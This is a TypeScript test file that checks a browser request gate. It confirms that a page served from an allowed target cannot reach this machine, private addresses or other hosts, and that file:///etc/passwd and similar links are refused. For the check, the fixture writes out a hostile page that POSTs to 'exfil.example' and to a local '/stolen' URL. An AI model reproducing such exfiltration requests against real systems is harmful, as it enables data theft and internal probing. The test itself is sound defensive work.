import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from 'vitest';
import { browserReach } from '../../profiles/host-safety.ts';
import { findChromium, launchChromium } from '../../targets/browser/chromium.ts';
import { openRequestGate } from '../../targets/browser/request-gate.ts';
import { mockProfile } from '../../targets/open/embedded-mock.ts';
import { leaveOut } from '../optional.ts';

/** A page that tries to get elsewhere by script, picture, frame and socket, and a path that redirects there. */
function pageThatReaches(elsewhere: readonly string[]): string {
  const each = elsewhere.map(
    (url) => `<img src="${url}"><iframe src="${url}"></iframe>
<script>fetch("${url}", { method: "POST", mode: "no-cors" }); new WebSocket("${url}".replace("http", "ws"));</script>`,
  );
  return `<!doctype html>${each.join('')}<iframe src="/redirect"></iframe><h1>here</h1>`;
}

test('a page of a target elsewhere reaches neither this machine nor other hosts', async (context) => {
  if (findChromium(null) === null) leaveOut(context, 'browser', 'no Chromium is installed');
  const asked: string[] = [];
  const local = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end();
  });
  await once(local.listen(0, '127.0.0.1'), 'listening');
  const localUrl = `http://127.0.0.1:${(local.address() as AddressInfo).port}/stolen`;
  const elsewhere = [localUrl, 'http://exfil.example/', 'http://10.0.0.1/', 'http://localhost:1/'];
  // The proxy of a network stands in for the target, so that no name has to be resolved.
  const proxy = createServer((request, response) => {
    asked.push(request.url ?? '');
    if (request.url?.endsWith('/redirect')) response.writeHead(302, { location: localUrl }).end();
    else response.writeHead(200, { 'content-type': 'text/html' }).end(pageThatReaches(elsewhere));
  });
  await once(proxy.listen(0, '127.0.0.1'), 'listening');
  const target = 'http://target.example';
  const profile = {
    ...mockProfile(target, 1),
    linkBaseUrl: target,
    safety: { allowHosts: ['target.example'], idPrefix: '' },
  };
  const env = { http_proxy: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}` };
  const gate = await openRequestGate({ mayReach: browserReach(profile), env });
  const browser = await launchChromium(null, gate.url);
  await using _ = {
    [Symbol.asyncDispose]: async () => {
      await browser.close();
      await gate.close();
      for (const server of [local, proxy]) server.close();
    },
  };
  const page = await browser.newPage();
  await page.goto(`${target}/`, { waitUntil: 'networkidle' });
  expect(await page.textContent('h1')).toBe('here');
  expect(new Set(asked)).toEqual(new Set([`${target}/`, `${target}/redirect`]));
});

test.each([
  'file:///etc/passwd',
  'file://127.0.0.1/etc/passwd',
  'chrome://version',
  'data:text/html,x',
  'ftp://127.0.0.1/',
])('a link %s is not opened, even by the browser of a target on this machine', (link) => {
  expect(browserReach(mockProfile('http://127.0.0.1:4010', 1))(link)).toBe(false);
});
